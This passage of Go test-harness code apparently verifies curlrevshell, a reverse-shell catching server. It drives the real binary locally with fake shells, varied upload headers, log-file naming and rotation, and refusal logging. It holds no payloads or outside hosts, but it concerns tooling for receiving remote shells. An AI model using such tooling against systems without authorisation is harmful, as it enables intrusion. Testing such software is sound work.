		e.tl.add("LATE  %s (%s, %.0f ms old): sent %q after the only shell has ended", q.l.label, q.l.how(), ms(time.Since(q.l.opened)), firstLine(q.req))
	}
	if kind == "half" {
		res.count("late_half_shell_requests_after_shell", 1)
		re := regexp.MustCompile(`Input connected: ID "` + regexp.QuoteMeta(id) + `"|Rejected `)
		if loc, ok := e.s.P.WaitFor(re, mark, lateAnswer*e.mult); !ok {
			res.count("late_after_shell_requests_unanswered", 1)
		} else if strings.HasPrefix(e.s.P.Clean()[loc[0]:loc[1]], "Input connected") {
			res.count("late_half_shells_attached_after_shell", 1)
			e.tl.add("LATE  a half-attached stream on a pre-opened connection is attached; its client hangs up")
			cs[0].Close() // a half-attached stream ends only when its client goes away
			if _, ok := e.s.P.WaitFor(lateGoneRe, loc[1], boundNotice*e.mult); !ok {
				e.tl.add("LATE  no 'Shell is gone' for the half-attached late stream within %s", boundNotice*e.mult)
				res.count("late_later_shells_without_gone_notice", 1)
			}
			return
		} else {
			res.count("late_after_shell_requests_rejected", 1)
		}
		e.lateHangUp("half-attached request made after the shell had ended", cs...)
		return
	}
	res.count("late_shell_requests_after_shell", 1)
	res.count("late_shell_requests_after_shell:"+kind, 1)
	loc, ok := e.s.P.WaitFor(lateReactRe, mark, lateAnswer*e.mult)
	if !ok {
		res.count("late_after_shell_requests_unanswered", 1)
		e.tl.add("LATE  no reaction to the %s request within %s; its client hangs up", kind, lateAnswer*e.mult)
		for _, l := range cs {
			l.Close()
		}
		return
	}
	if !strings.HasPrefix(e.s.P.Clean()[loc[0]:loc[1]], "Shell is ready") {
		res.count("late_after_shell_requests_rejected", 1)
		e.tl.add("LATE  the %s request was rejected", kind)
		e.lateHangUp("would-be shell rejected after the shell had ended", cs...)
		return
	}
	// A further shell is fully attached.  Its client uses it and ends it; the
	// operator types nothing meanwhile.
	res.count("late_later_shells_ready", 1)
	res.count("late_later_shells_ready:"+kind, 1)
	e.tl.at(e.s.P.TimeOfClean(loc[0]), "LATE  a further shell (%s on pre-opened connections) is reported ready", kind)
	out := &crs.OutStream{C: outC.c}
	word := fmt.Sprintf("FURTHER-SHELL-%d-SAYS-HELLO", idx)
	if err := out.Send(word + "\n"); err != nil {
		e.tl.add("LATE  the further shell's output could not be sent: %v", err)
		res.count("late_later_shells_output_not_sent", 1)
	} else if _, ok := e.s.P.WaitFor(regexp.MustCompile(word), loc[1], lateAnswer*e.mult); ok {
		res.count("late_later_shells_output_displayed", 1)
	} else {
		e.tl.add("LATE  the further shell's output was not displayed within %s", lateAnswer*e.mult)
		res.count("late_later_shells_output_not_displayed", 1)
	}
	e.tl.add("LATE  the further shell's client ends it (request body ends)")
	if err := out.End(); err != nil {
		e.tl.add("LATE  ending the further shell's output: %v", err)
	}
	if _, ok := e.s.P.WaitFor(lateGoneRe, loc[1], boundNotice*e.mult); ok {
		res.count("late_later_shells_gone", 1)
	} else {
		// not promised; the client has ended its stream and hangs up, the operator's line follows
		e.tl.add("LATE  no 'Shell is gone' for the further shell within %s (program exited: %v)", boundNotice*e.mult, e.s.P.Exited())
		res.count("late_later_shells_without_gone_notice", 1)
		for _, l := range cs {
			l.Close()
		}
		return
	}
	e.lateHangUp("further shell, ended by its client", cs...)
}

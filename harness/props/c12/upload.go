package c12

// The upload engine: request-header variants of the one shell's OUTPUT request.
//
// The original case list attaches its fake shells with a bare "POST /o/ID"
// (chunked, or with a declared length).  Real clients say more: curl -T sends
// PUT and, for anything but a tiny body, "Expect: 100-continue", and then
// either waits for the program's "100 Continue" before it sends a body byte or
// (after a second, or when told so) does not.  None of that is the operator's
// business: the shell must work across the listener close and the program must
// exit at the operator's next line whatever the upload's header said.
//
// Every case here is an ordinary full case (fullShell: arrival order i-o or
// o-i, junk before, traffic across the close, an ending, the one entered
// line) whose output request is one of
//
//	POST | PUT  x  chunked | Content-Length: 200000  x  Expect: none | wait | nowait
//
// and most of them end the way that makes the header matter: the shell's
// INPUT connection goes away while the output upload is idle, and the client
// of the upload stays connected and silent for ever (ending in-close + hold,
// what case i%10==6 of the original list does with a bare POST).  Refused
// uploads (junk) carry the header too in a third of the cases, and their
// clients linger as well.  The engine has its own counters (prefix upload_)
// and floors, so the original list's floors mean what they meant.

import (
	"fmt"
	"math/rand/v2"
)

// uploadShape: framing, Expect and arrival order are stratified by index so
// that six consecutive cases hold every (framing, Expect) pair with a header
// and both orders; the seed rotates where the list starts.
var uploadShapes = []struct {
	fixed  bool
	expect string
	order  string
}{
	{true, "wait", "i-o"},
	{true, "nowait", "o-i"},
	{false, "wait", "i-o"},
	{true, "wait", "o-i"},
	{true, "nowait", "i-o"},
	{false, "nowait", "o-i"},
	// the thorough tier also gets there: the same shapes in the other order, and the bare header with PUT
	{true, "wait", "i-o"},
	{true, "nowait", "i-o"},
	{false, "wait", "o-i"},
	{true, "", "o-i"},
	{false, "nowait", "i-o"},
	{false, "", "i-o"},
}

func makeUploadCfg(rng *rand.Rand, k, rot int) Cfg {
	c := Cfg{Index: k, Kind: "full", Engine: "upload"}
	c.NoTS = rng.IntN(2) == 0
	c.Files = rng.IntN(2) == 0
	_ = rng.IntN(2)
	c.PollRST = true // no TIME_WAIT sockets from this engine's pollers (see atonce.go)
	c.SelfWait = 2000
	c.ID = fmt.Sprintf("u%x", rng.Uint32())
	sh := uploadShapes[(k+rot)%len(uploadShapes)]
	if k < 6 {
		sh = uploadShapes[(k+rot)%6] // the quick tier's six cases are the first six shapes, whatever the rotation
	}
	c.Order, c.FixedLen, c.OutExpect = sh.order, sh.fixed, sh.expect
	c.OutMethod = []string{"PUT", "POST"}[rng.IntN(2)]
	if c.OutExpect == "" {
		c.OutMethod = "PUT"
	}
	// what precedes the shell: a third of the cases have refused uploads that ask for permission too
	c.JunkWhere = "pre"
	switch k % 3 {
	case 0:
		c.Junk = "wrong-id"
		c.JunkExpect = []string{"nowait", "wait"}[(k/3)%2]
		if c.Order == "i-o" && rng.IntN(2) == 0 {
			c.JunkWhere = "real-half"
		}
	case 1:
		c.Junk = "none"
	default:
		c.Junk = []string{"half-dies", "duplicate"}[rng.IntN(2)]
	}
	c.Traffic = traffics[rng.IntN(len(traffics))]
	c.NTok, c.NLines = 80, 80
	c.Log = []string{"", "file", "devnull", "fifo", ""}[rng.IntN(5)]
	c.OneCPU = rng.IntN(4) == 0
	// three in four (all of the first six): the input connection goes, the upload lingers
	if k < 6 || k%4 != 3 {
		c.Ending, c.Hold = "in-close", true
	} else {
		ends := []string{"out-close", "both"}
		if !c.FixedLen {
			ends = append(ends, "out-end")
		}
		c.Ending = ends[rng.IntN(len(ends))]
		c.Hold = rng.IntN(3) == 0
	}
	return c
}

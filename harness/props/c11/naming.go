package c11

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/ptyx"
)

// HOW the log file is named to the real binary (engines binary and logfile):
// by -log, by CURLREVSHELL_LOG, by both naming the same file, or by both
// naming DIFFERENT files - then "with -log set" is about the file -log names,
// which must hold the complete transcript (what lands in the other file is not
// judged).  The path is absolute or relative to the program's working
// directory (which is neither HOME nor the directory of the file nor the
// harness's own), the flag stands before, between or after the other flags and
// is written in any of the ways the flag package accepts.

var (
	logModes     = []string{"flag", "env", "both-same", "both-different"}
	logPositions = []string{"first", "middle", "last"}
	logSyntaxes  = []string{"-log FILE", "-log=FILE", "--log FILE", "--log=FILE"}
)

type logNaming struct {
	Mode   string
	Rel    bool
	Pos    string
	Syntax string
}

func planNaming(a, b int) logNaming {
	return logNaming{
		Mode:   logModes[(a+b)%len(logModes)],
		Rel:    (a/2+b)%2 == 1,
		Pos:    logPositions[(a+2*b)%len(logPositions)],
		Syntax: logSyntaxes[(3*a+b)%len(logSyntaxes)],
	}
}

func (n logNaming) byFlag() bool { return n.Mode != "env" }

func (n logNaming) String() string {
	s := n.Mode
	if n.Rel {
		s += ", relative path"
	}
	if n.byFlag() {
		s += fmt.Sprintf(", %s %s", n.Syntax, n.Pos)
	}
	return s
}

// keys are the counters a run with this naming adds to.
func (n logNaming) keys(engine string) []string {
	k := []string{engine + "_log_named_by:" + n.Mode}
	if n.Rel {
		k = append(k, engine+"_log_named_by_relative_path")
	}
	if n.byFlag() {
		k = append(k, engine+"_log_flag_position:"+n.Pos, engine+"_log_flag_syntax:"+n.Syntax)
	}
	return k
}

// count notes a completed, judged run with this naming.
func (n logNaming) count(r *mon.Run, engine string) {
	for _, k := range n.keys(engine) {
		r.Count(k, 1)
	}
}

// namingFloors: every planned run is a floor; needAll = an engine whose plans
// must between them cover every way of naming the file.
func namingFloors(r *mon.Run, engine string, plans []logNaming, needAll bool) {
	want := map[string]int64{}
	for _, n := range plans {
		for _, k := range n.keys(engine) {
			want[k]++
		}
	}
	for k, v := range want {
		r.Floor(k, v)
	}
	if !needAll {
		return
	}
	var all []string
	for _, m := range logModes {
		all = append(all, engine+"_log_named_by:"+m)
	}
	for _, p := range logPositions {
		all = append(all, engine+"_log_flag_position:"+p)
	}
	for _, x := range logSyntaxes {
		all = append(all, engine+"_log_flag_syntax:"+x)
	}
	all = append(all, engine+"_log_named_by_relative_path")
	for _, k := range all {
		if want[k] == 0 {
			r.Floor(k, 1) // never reached: the plans do not cover this way of naming the file
		}
	}
}

var namedListenRe = regexp.MustCompile(`Listening on (\S+:\d+)`)

// startNamed starts the binary with the log file logf named as n says.  The
// program runs in its own working directory below home; decoy is the other
// file of "both-different" ("" otherwise).
func startNamed(bin, home, logf string, n logNaming, tag string) (s *crs.Session, decoy string, err error) {
	cwd := filepath.Join(home, "cwd "+tag)
	if err := os.MkdirAll(cwd, 0o755); err != nil {
		return nil, "", err
	}
	abs := logf
	rel, err := filepath.Rel(cwd, logf)
	if err != nil {
		return nil, "", err
	}
	flagPath, envPath := abs, abs
	if n.Rel {
		flagPath, envPath = rel, rel
	}
	var env []string
	switch n.Mode {
	case "env":
		env = []string{"CURLREVSHELL_LOG=" + envPath}
	case "both-same":
		// the same file, spelled differently where possible
		if n.Rel {
			envPath = abs
		}
		env = []string{"CURLREVSHELL_LOG=" + envPath}
	case "both-different":
		decoy = filepath.Join(home, "decoy "+tag+".json")
		env = []string{"CURLREVSHELL_LOG=" + decoy}
	}
	others := [][]string{{"-listen-address", "127.0.0.1:0"}, {"-tls-certificate-cache", ""}}
	var lf []string
	switch n.Syntax {
	case "-log FILE":
		lf = []string{"-log", flagPath}
	case "-log=FILE":
		lf = []string{"-log=" + flagPath}
	case "--log FILE":
		lf = []string{"--log", flagPath}
	default:
		lf = []string{"--log=" + flagPath}
	}
	var args []string
	if !n.byFlag() {
		lf = nil
	}
	switch n.Pos {
	case "first":
		args = append(append(append(args, lf...), others[0]...), others[1]...)
	case "middle":
		args = append(append(append(args, others[0]...), lf...), others[1]...)
	default:
		args = append(append(append(args, others[0]...), others[1]...), lf...)
	}
	p, err := ptyx.Start(ptyx.Opts{Path: bin, Args: args, Env: append(crs.Env(home), env...), Dir: cwd})
	if err != nil {
		return nil, decoy, err
	}
	loc, ok := p.WaitFor(namedListenRe, 0, crs.Bound)
	if !ok {
		out := p.Clean()
		p.Close()
		return nil, decoy, fmt.Errorf("no 'Listening on' line (log file named by %s); terminal shows: %q", n, tailS(out, 600))
	}
	return &crs.Session{P: p, Addr: p.Clean()[loc[2]:loc[3]], Home: home}, decoy, nil
}

package c11

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
)

// Engine "logfile": the -log file over SEVERAL runs of the real binary, with
// content that was there before, content added between runs and the file cut
// by somebody else while the program runs.  The file is append-only JSON
// lines: whatever it held when the program (or a stretch of a run) started is
// afterwards still there byte for byte, followed by nothing but one-line JSON
// records from which that stretch can be reconstructed.

type logCasePlan struct {
	pre      string // what the file holds before the first run
	runs     int
	naming   []logNaming // how the run is told the file (-log, CURLREVSHELL_LOG, both; see naming.go)
	gens     []int       // shell generations of the run
	cut      []string    // "", or how the harness cuts the file during the run
	addAfter []bool      // somebody else appends to the file after the run
}

var (
	logPres = []string{"absent", "lines", "torn", "long-lines", "empty", "long-torn"}
	logCuts = []string{"to-zero", "to-line-boundary", "mid-line", "copy-truncate"}
)

func planLogCase(idx int, thorough bool) logCasePlan {
	p := logCasePlan{pre: logPres[idx%len(logPres)], runs: 2 + idx%2}
	if thorough && idx%5 == 4 {
		p.runs = 4
	}
	for j := 0; j < p.runs; j++ {
		p.naming = append(p.naming, planNaming(idx, j))
		p.gens = append(p.gens, (idx+2*j+1)%3)
		cut := ""
		if (idx+j)%2 == 1 {
			cut = logCuts[(idx/2+j)%len(logCuts)]
		}
		p.cut = append(p.cut, cut)
		p.addAfter = append(p.addAfter, j+1 < p.runs && (idx+j)%3 == 0)
	}
	return p
}

// foreign makes content somebody else left in the file: lines that look like
// an older log of this program, text, and bytes that are not text at all.
func foreign(rng *rand.Rand, size int, newline bool) []byte {
	var b bytes.Buffer
	for b.Len() < size {
		switch rng.IntN(4) {
		case 0:
			fmt.Fprintf(&b, `{"time":"2024-01-0%dT00:00:00Z","level":"INFO","msg":"Shell I/O","direction":"output","data":"old-%d"}`+"\n", 1+rng.IntN(9), rng.IntN(1e6))
		case 1:
			fmt.Fprintf(&b, `{"time":"2024-01-01T00:00:00Z","level":"INFO","msg":"Program terminating"}`+"\n")
		case 2:
			fmt.Fprintf(&b, "# rotated by somebody %d\n", rng.IntN(1e6))
		default:
			n := 1 + rng.IntN(60)
			for i := 0; i < n; i++ {
				b.WriteByte(byte(rng.Uint32()))
			}
			b.WriteByte('\n')
		}
	}
	out := b.Bytes()[:size]
	if size > 0 {
		if newline {
			out[size-1] = '\n'
		} else if out[size-1] == '\n' {
			out[size-1] = '}'
		}
	}
	return out
}

func firstDiff(a, b []byte) int {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			return i
		}
	}
	return n
}

func logFileCase(r *mon.Run, bin string, idx int) {
	rng := r.Rng("logfile", idx)
	plan := planLogCase(idx, r.Thorough())
	home := filepath.Join(r.Work, fmt.Sprintf("logfile-%d", idx))
	os.MkdirAll(home, 0o755)
	logf := filepath.Join(home, "the log.json")
	var script []string
	note := func(f string, a ...any) { script = append(script, fmt.Sprintf(f, a...)) }
	var sess *crs.Session
	viol := func(key, what string) {
		b, _ := os.ReadFile(logf)
		w := map[string]any{"script": script, "log_file_size": len(b), "log_file_head": trunc(string(b)), "log_file_tail": tailS(string(b), 2500)}
		if sess != nil {
			w["terminal_tail"] = tailS(sess.P.Clean(), 1000)
		}
		r.Violate("logfile", idx, key, what, w)
	}
	// what the file held before the program ever ran
	var base []byte
	switch plan.pre {
	case "absent":
	case "empty":
		base = []byte{}
	case "lines":
		base = foreign(rng, 1+rng.IntN(300), true)
	case "torn":
		base = foreign(rng, 1+rng.IntN(300), false)
	case "long-lines":
		base = foreign(rng, 4000+rng.IntN(30000), true)
	case "long-torn":
		base = foreign(rng, 4000+rng.IntN(30000), false)
	}
	if base != nil {
		if err := os.WriteFile(logf, base, 0o600); err != nil {
			r.Inconclusive(err.Error())
			return
		}
	}
	note("before the first run the file is %s (%d bytes)", plan.pre, len(base))
	// settle: base must be a prefix of the file, the rest one-line JSON
	// records that reconstruct exactly t.
	settle := func(content []byte, t *truth, when string) bool {
		if !bytes.HasPrefix(content, base) {
			d := firstDiff(content, base)
			viol("log-earlier-content-altered", fmt.Sprintf("%s: the %d bytes the log file held before are not an unchanged prefix of its %d bytes now (first difference at offset %d: had %q, has %q)", when, len(base), len(content), d, trunc(string(base[d:])), trunc(string(content[min(d, len(content)):]))))
			return false
		}
		g, bad := parseLog(content[len(base):])
		if bad != "" {
			viol("log-line-not-json", fmt.Sprintf("%s: after the %d bytes the log file held before, %s", when, len(base), bad))
			return false
		}
		nv := 0
		compareRecon(t, g, func(key, what string) { nv++; viol(key, when+": "+what) })
		r.Count("logfile_bytes_preserved", int64(len(base)))
		r.Count("logfile_records", int64(g.lines))
		r.Count("logfile_connections", int64(len(g.conns)))
		return nv == 0
	}
	for j := 0; j < plan.runs; j++ {
		s, decoy, err := startNamed(bin, home, logf, plan.naming[j], fmt.Sprint(j))
		if err != nil {
			r.Inconclusive("logfile: binary did not start: " + err.Error())
			return
		}
		sess = s
		if len(base) > 0 {
			r.Count("logfile_runs_on_nonempty_file", 1)
			if base[len(base)-1] != '\n' {
				r.Count("logfile_runs_on_torn_file", 1)
			}
		}
		note("run %d (%d generations, file named by %s, cut %q)", j, plan.gens[j], plan.naming[j], plan.cut[j])
		if decoy != "" {
			note("run %d: CURLREVSHELL_LOG names another file, %s", j, filepath.Base(decoy))
		}
		t := &truth{}
		cutAt := -1
		if plan.cut[j] != "" {
			cutAt = rng.IntN(plan.gens[j] + 1)
		}
		between := func(g int) bool {
			if g != cutAt {
				return true
			}
			// Every stream so far has ended; their disconnect records are the only
			// ones that may still be on their way.  Wait for them (a logical
			// condition), then the file is at rest.
			var content []byte
			deadline := time.Now().Add(crs.Bound)
			for {
				content, _ = os.ReadFile(logf)
				if !bytes.HasPrefix(content, base) {
					// what is at rest in an append-only file never changes: not a matter of waiting
					settle(content, t, fmt.Sprintf("run %d before the file is cut", j))
					return false
				}
				if rc, bad := parseLog(content[len(base):]); bad == "" && rc.ndisc >= len(t.conns) && rc.lines > 0 {
					break
				}
				if time.Now().After(deadline) {
					if _, err := os.Stat(logf); err != nil {
						viol("log-file-missing", fmt.Sprintf("run %d (log file named by %s): the program is up and every stream so far has ended, but: %v", j, plan.naming[j], err))
						return false
					}
					// let the strict comparison say what is wrong, if anything is
					if settle(content, t, fmt.Sprintf("run %d before the file is cut", j)) {
						r.Inconclusive(fmt.Sprintf("logfile %d: the log file did not come to rest before the cut", idx))
					}
					return false
				}
				time.Sleep(5 * time.Millisecond)
			}
			if !settle(content, t, fmt.Sprintf("run %d before the file is cut", j)) {
				return false
			}
			// cut it, as a log rotation by somebody else would
			var keep int
			switch plan.cut[j] {
			case "to-zero":
			case "copy-truncate":
				if err := os.WriteFile(filepath.Join(home, fmt.Sprintf("rotated-%d.json", j)), content, 0o600); err != nil {
					r.Inconclusive(err.Error())
					return false
				}
				r.Count("logfile_copy_truncates", 1)
			case "to-line-boundary":
				var ends []int
				for i, c := range content {
					if c == '\n' {
						ends = append(ends, i+1)
					}
				}
				if len(ends) > 0 {
					keep = ends[rng.IntN(len(ends))]
				}
			case "mid-line":
				if len(content) > 1 {
					keep = 1 + rng.IntN(len(content)-1)
					if content[keep-1] == '\n' {
						keep--
					}
				}
				r.Count("logfile_cuts_mid_line", 1)
			}
			if err := os.Truncate(logf, int64(keep)); err != nil {
				r.Inconclusive(err.Error())
				return false
			}
			note("run %d: file of %d bytes cut to %d bytes before generation %d", j, len(content), keep, g)
			base = append([]byte(nil), content[:keep]...)
			*t = truth{}
			r.Count("logfile_cuts", 1)
			return true
		}
		ok := driveGens(r, s, rng, plan.gens[j], fmt.Sprintf("r%d", j), t, &script, viol, between)
		if !ok {
			s.Close()
			return
		}
		st, sig, exited := s.Quit()
		s.Close()
		if !exited || st != 0 {
			r.Inconclusive(fmt.Sprintf("logfile: binary did not exit cleanly (status %d signal %q exited %v)", st, sig, exited))
			return
		}
		content, err := os.ReadFile(logf)
		if err != nil {
			viol("log-file-missing", fmt.Sprintf("after run %d (log file named by %s): %v", j, plan.naming[j], err))
			return
		}
		if !settle(content, t, fmt.Sprintf("after run %d", j)) {
			return
		}
		r.Count("logfile_runs", 1)
		if j > 0 {
			r.Count("logfile_reruns", 1)
		}
		plan.naming[j].count(r, "logfile")
		base = content
		if plan.addAfter[j] {
			add := foreign(rng, 1+rng.IntN(200), rng.IntN(2) == 0)
			f, err := os.OpenFile(logf, os.O_WRONLY|os.O_APPEND, 0)
			if err == nil {
				_, err = f.Write(add)
				f.Close()
			}
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
			base = append(append([]byte(nil), base...), add...)
			note("somebody appends %d bytes after run %d", len(add), j)
			r.Count("logfile_foreign_appends", 1)
		}
	}
	r.Eval(1)
	r.Count("logfile_cases", 1)
	r.Distinct("logfile|" + strings.Join(script, "|"))
	if idx == 1 {
		b, _ := os.ReadFile(logf)
		r.Sample("logfile", map[string]any{"script": script, "final_size": len(b)})
	}
}

func logFileRuns(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	n := r.N(6, 36)
	mon.Parallel(n, 6, func(i int) {
		if r.Want("logfile", i) {
			logFileCase(r, bin, i)
		}
	})
	// what the plans promise, counted from the plans themselves
	var runs, reruns, cuts, midline, copytr, adds int64
	var namings []logNaming
	for i := 0; i < n; i++ {
		p := planLogCase(i, r.Thorough())
		namings = append(namings, p.naming...)
		runs += int64(p.runs)
		reruns += int64(p.runs - 1)
		for j := 0; j < p.runs; j++ {
			switch p.cut[j] {
			case "":
			case "mid-line":
				midline++
				cuts++
			case "copy-truncate":
				copytr++
				cuts++
			default:
				cuts++
			}
			if p.addAfter[j] {
				adds++
			}
		}
	}
	r.Floor("logfile_cases", int64(n))
	r.Floor("logfile_runs", runs)
	r.Floor("logfile_reruns", reruns)
	r.Floor("logfile_runs_on_nonempty_file", reruns)
	r.Floor("logfile_runs_on_torn_file", int64(n/6*2)) // the first runs of the two "torn" kinds at least
	r.Floor("logfile_cuts", cuts)
	r.Floor("logfile_cuts_mid_line", midline)
	r.Floor("logfile_copy_truncates", copytr)
	r.Floor("logfile_foreign_appends", adds)
	r.Floor("logfile_bytes_preserved", int64(n)*1000)
	r.Floor("logfile_connections", int64(n))
	namingFloors(r, "logfile", namings, true)
}

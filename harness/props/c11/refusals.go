package c11

import (
	"encoding/json"
	"fmt"
	"runtime"
	"strings"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// refusalRecords: every refusal branch of the broker, also those only
// reachable inside a tear-down window, driven in gate mode while the broker
// logs through the JSON handler the program uses (default level): every
// stream refused outside shutdown must have exactly one error record naming
// a reason, every admitted one a connect and a disconnect record.
func refusalRecords(r *mon.Run) {
	n := r.N(100, 2000)
	mon.Parallel(n, runtime.NumCPU(), func(i int) {
		if !r.Want("refusals", i) {
			return
		}
		rng := r.Rng("refusals", i)
		var ids [4]string
		for k := range ids {
			ids[k] = fmt.Sprintf("id%d-%s", k, genData(rng, true))
			if len(ids[k]) > 40 {
				ids[k] = ids[k][:40]
			}
		}
		w, err := bk.NewWorld(1024, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		w.JSON = true
		x := bk.RefusalTour(w, ids, func(key, what string) {})
		viol := func(key, what string) {
			r.Violate("refusals", i, key, what, map[string]any{"ids": ids, "trace": x.Trace})
		}
		type rkey struct {
			att int
			dir string
		}
		errs, news, discs := map[rkey]int{}, map[rkey]int{}, map[rkey]int{}
		for _, e := range w.Log.Snapshot() {
			if e.Kind != "json" {
				continue
			}
			var m map[string]any
			if json.Unmarshal([]byte(e.S), &m) != nil {
				viol("log-line-not-json", fmt.Sprintf("log line does not parse: %q", trunc(e.S)))
				continue
			}
			att, _ := m["att"].(float64)
			dir, _ := m["direction"].(string)
			msg, _ := m["msg"].(string)
			lvl, _ := m["level"].(string)
			k := rkey{int(att), dir}
			switch {
			case msg == bk.MsgNew:
				news[k]++
			case msg == bk.MsgDisconnected:
				discs[k]++
			case isRefusalRecord(lvl, msg):
				errs[k]++
			}
		}
		for _, s := range x.Streams {
			k := rkey{s.A.ID, s.Dir}
			switch s.State {
			case bk.StRefused:
				r.Count("gate_refused_streams", 1)
				r.Count("gate_refusal:"+s.Reason, 1)
				c := errs[k] + errs[rkey{s.A.ID, ""}] // "Key missing" is logged before the direction is known
				if c != 1 {
					viol("refusal-record-count", fmt.Sprintf("%s was refused (%s) but the log holds %d error records for it, expected 1", s, s.Reason, c))
				}
				if news[k] != 0 {
					viol("refused-stream-has-connect-record", fmt.Sprintf("%s was refused but has a New connection record", s))
				}
			case bk.StReleased, bk.StEnded, bk.StLive:
				r.Count("gate_admitted_streams", 1)
				if news[k] != 1 || discs[k] != 1 {
					viol("connect-record-count", fmt.Sprintf("%s was attached and released; the log holds %d connect and %d disconnect records", s, news[k], discs[k]))
				}
			}
		}
		r.Eval(1)
		r.Distinct("refusals|" + strings.Join(ids[:], "|"))
	})
	r.Floor("gate_refused_streams", int64(n*10))
	r.Floor("gate_refusal:"+bk.MsgDisconnecting, int64(n))
}

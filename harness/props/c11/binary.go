package c11

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

type conn struct {
	dir, id string
}

// binarySessions drives the real binary with -log and reconstructs the
// session from the log file alone.
func binarySessions(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	n := r.N(3, 30)
	mon.Parallel(n, 6, func(i int) {
		if r.Want("binary", i) {
			binarySession(r, bin, i)
		}
	})
	r.Floor("binary_sessions", int64(n))
	r.Floor("binary_bighead_refusals", int64(n))
	var namings []logNaming
	for i := 0; i < n; i++ {
		namings = append(namings, binaryNaming(i))
	}
	namingFloors(r, "binary", namings, false)
}

// binaryNaming: how session idx names its log file to the program.
func binaryNaming(idx int) logNaming { return planNaming(idx, 3) }

// truth is what the harness itself did to one run of the binary (ground truth
// of the part of the session whose records are expected in a stretch of the log).
type truth struct {
	conns   []conn // admitted streams, in order
	refused []conn // refused streams
	in      []string
	out     strings.Builder
}

// recon is a session reconstructed from log bytes alone.
type recon struct {
	conns, refused []conn
	in             []string
	out            strings.Builder
	ndisc, lines   int
}

// parseLog decodes b strictly as a sequence of newline-terminated one-line
// JSON objects.  bad describes the first line that is not one (empty if none).
func parseLog(b []byte) (g *recon, bad string) {
	g = &recon{}
	rest := string(b)
	for rest != "" {
		line := rest
		if i := strings.IndexByte(rest, '\n'); i >= 0 {
			line = rest[:i+1]
		}
		rest = rest[len(line):]
		g.lines++
		var m map[string]any
		dec := json.NewDecoder(strings.NewReader(line))
		if derr := dec.Decode(&m); derr != nil || !strings.HasSuffix(line, "\n") || dec.More() {
			return g, fmt.Sprintf("line %d is not one complete JSON object: %q", g.lines, trunc(line))
		}
		msg, _ := m["msg"].(string)
		dir, _ := m["direction"].(string)
		id := ""
		if hr, ok := m["http_request"].(map[string]any); ok {
			id, _ = hr["id"].(string)
		}
		data, _ := m["data"].(string)
		switch {
		case msg == "New connection":
			g.conns = append(g.conns, conn{dir, id})
		case msg == "Disconnected":
			g.ndisc++
		case msg == "Shell I/O" && dir == "input":
			g.in = append(g.in, data)
		case msg == "Shell I/O" && dir == "output":
			g.out.WriteString(data)
		case isRefusalRecord(fmt.Sprint(m["level"]), msg):
			g.refused = append(g.refused, conn{dir, id})
		}
	}
	return g, ""
}

func sameConns(a, b []conn) bool {
	if len(a) != len(b) {
		return false
	}
	ca, cb := map[conn]int{}, map[conn]int{}
	for i := range a {
		ca[a[i]]++
		cb[b[i]]++
	}
	for k, v := range ca {
		if cb[k] != v {
			return false
		}
	}
	return true
}

// compareRecon compares a reconstruction with ground truth.
func compareRecon(t *truth, g *recon, viol func(key, what string)) {
	if !sameConns(t.conns, g.conns) {
		viol("binary-log-connections-differ", fmt.Sprintf("connections reconstructed from the log %v differ from the ones made %v", g.conns, t.conns))
	}
	if g.ndisc != len(g.conns) {
		viol("binary-log-disconnects-differ", fmt.Sprintf("%d Disconnected records for %d New connection records", g.ndisc, len(g.conns)))
	}
	if !sameConns(t.refused, g.refused) {
		viol("binary-log-refusals-differ", fmt.Sprintf("refusals reconstructed from the log %v differ from the ones provoked %v", g.refused, t.refused))
	}
	if strings.Join(g.in, "") != strings.Join(t.in, "") || len(g.in) != len(t.in) {
		viol("binary-log-input-differs", fmt.Sprintf("input reconstructed from the log %q differs from the lines delivered %q", trunc(strings.Join(g.in, "")), trunc(strings.Join(t.in, ""))))
	}
	if g.out.String() != toValid(t.out.String()) {
		viol("binary-log-output-differs", fmt.Sprintf("output reconstructed from the log %q differs from the bytes sent %q", trunc(g.out.String()), trunc(toValid(t.out.String()))))
	}
}

// driveGens runs gens shell generations (fake shells, typed lines, output
// chunks, refused attempts) against a running binary and records what it did
// in t.  between, if not nil, is called before every generation and after the
// last one (g = 0..gens) while no shell is attached; it returns false to stop.
// The result is false if the session could not be completed (a violation or
// an inconclusive note was already filed).
func driveGens(r *mon.Run, s *crs.Session, rng *rand.Rand, gens int, tag string, t *truth, script *[]string, viol func(key, what string), between func(g int) bool) bool {
	bad := false
	pos := 0
	for g := 0; g < gens && !bad; g++ {
		if between != nil && !between(g) {
			return false
		}
		bidir := rng.IntN(3) == 0
		id := fmt.Sprintf("%sg%d%s", tag, g, []string{"abc", "A-b_c", "x.y", "0"}[rng.IntN(4)])
		var in *crs.InStream
		var out *crs.OutStream
		var err error
		if bidir {
			io, err := crs.OpenIO(s.Addr)
			if err != nil {
				r.Inconclusive(err.Error())
				return false
			}
			in, out = io.In, io.Out
			t.conns = append(t.conns, conn{"input", ""}, conn{"output", ""})
			*script = append(*script, "io shell")
		} else {
			in, err = crs.OpenIn(s.Addr, "/i/"+id)
			if err != nil {
				r.Inconclusive(err.Error())
				return false
			}
			if _, ok := s.Wait(`Input connected`, pos, crs.Bound); !ok {
				viol("binary-shell-does-not-attach", "no 'Input connected' notice")
				return false
			}
